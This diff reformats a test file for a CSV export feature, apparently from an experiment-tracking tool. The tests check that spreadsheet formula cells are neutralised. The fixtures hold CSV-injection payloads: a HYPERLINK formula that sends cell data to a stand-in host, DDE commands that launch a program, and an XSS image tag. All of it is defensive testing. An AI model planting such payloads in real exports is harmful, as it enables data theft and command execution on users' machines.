@@ -73,8 +73,21 @@ describe('CSV export', () => {
     const nasty = 'run, "quoted"\nsecond line <img src=x onerror=alert(1)>';
     const text = [
       ...metricHistoryCsv([
-        { runId: 'r1', runName: nasty, metricKey: 'val loss,1', points: [{ key: 'k', value: 0.5, timestamp: 1700000000000, step: 0 }, { key: 'k', value: NaN, timestamp: 1700000000001, step: 1 }] },
-        { runId: 'r2', runName: 'plain', metricKey: 'acc', points: [{ key: 'acc', value: -Infinity, timestamp: 5, step: -3 }] },
+        {
+          runId: 'r1',
+          runName: nasty,
+          metricKey: 'val loss,1',
+          points: [
+            { key: 'k', value: 0.5, timestamp: 1700000000000, step: 0 },
+            { key: 'k', value: NaN, timestamp: 1700000000001, step: 1 },
+          ],
+        },
+        {
+          runId: 'r2',
+          runName: 'plain',
+          metricKey: 'acc',
+          points: [{ key: 'acc', value: -Infinity, timestamp: 5, step: -3 }],
+        },
       ]),
     ].join('');
     const rows = parseCsv(text);
@@ -87,8 +100,11 @@ describe('CSV export', () => {
 
   it('neutralises formula cells the OWASP way: a leading quote inside a quoted field; numbers stay numbers', () => {
     // Cells a spreadsheet would evaluate: =, +, -, @, tab and CR at the start (OWASP CSV injection).
-    assert.equal(csvField('=HYPERLINK("http://evil.example/?"&A1,"Click")'), '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"');
-    assert.equal(csvField('+1+cmd|\' /C calc\'!A0'), '"\'+1+cmd|\' /C calc\'!A0"');
+    assert.equal(
+      csvField('=HYPERLINK("http://evil.example/?"&A1,"Click")'),
+      '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"',
+    );
+    assert.equal(csvField("+1+cmd|' /C calc'!A0"), "\"'+1+cmd|' /C calc'!A0\"");
     assert.equal(csvField('-2+3'), '"\'-2+3"');
     assert.equal(csvField('@SUM(1,2)'), '"\'@SUM(1,2)"');
     assert.equal(csvField('\t=1'), '"\'\t=1"');
@@ -96,13 +112,31 @@ describe('CSV export', () => {
     // Not at the start: an ordinary field.
     assert.equal(csvField('a=b'), 'a=b');
     const rows = parseCsv(
-      [...metricHistoryCsv([{ runId: 'r1', runName: '=cmd|\' /C calc\'!A0', metricKey: '@loss', points: [{ key: 'k', value: -1.5, timestamp: 7, step: -2 }] }])].join(''),
+      [
+        ...metricHistoryCsv([
+          {
+            runId: 'r1',
+            runName: "=cmd|' /C calc'!A0",
+            metricKey: '@loss',
+            points: [{ key: 'k', value: -1.5, timestamp: 7, step: -2 }],
+          },
+        ]),
+      ].join(''),
     );
     // Text cells read back with the quote that makes a spreadsheet show them as text ...
     assert.deepEqual(rows[1]!.slice(0, 3), ['r1', "'=cmd|' /C calc'!A0", "'@loss"]);
     // ... while a negative step and value stay numbers, unquoted and unprefixed.
     assert.deepEqual(rows[1]!.slice(3), ['-2', '7', '-1.5']);
-    assert.equal([...metricHistoryCsv([{ runId: 'r', runName: 'n', metricKey: 'k', points: [{ key: 'k', value: -Infinity, timestamp: 1, step: 0 }] }])].join('').split('\r\n')[1], 'r,n,k,0,1,-Infinity');
+    assert.equal(
+      [
+        ...metricHistoryCsv([
+          { runId: 'r', runName: 'n', metricKey: 'k', points: [{ key: 'k', value: -Infinity, timestamp: 1, step: 0 }] },
+        ]),
+      ]
+        .join('')
+        .split('\r\n')[1],
+      'r,n,k,0,1,-Infinity',
+    );
   });
 
   it('writes one row per point (the full history, nothing sampled)', () => {
